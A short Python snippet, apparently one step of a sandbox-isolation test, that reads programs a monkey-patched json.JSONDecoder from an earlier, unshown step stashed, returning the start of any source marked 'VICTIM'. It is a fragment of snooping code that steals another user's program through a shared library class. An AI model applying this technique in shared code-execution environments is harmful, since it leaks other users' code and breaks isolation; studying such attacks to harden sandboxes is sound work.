# Snooping, step 3: collect the victim's program that the patched decoder of step 1 kept.
def f():
    import json
    return [source[:120] for source in getattr(json.JSONDecoder, 'adv_stash', []) if 'VICTIM' in source]
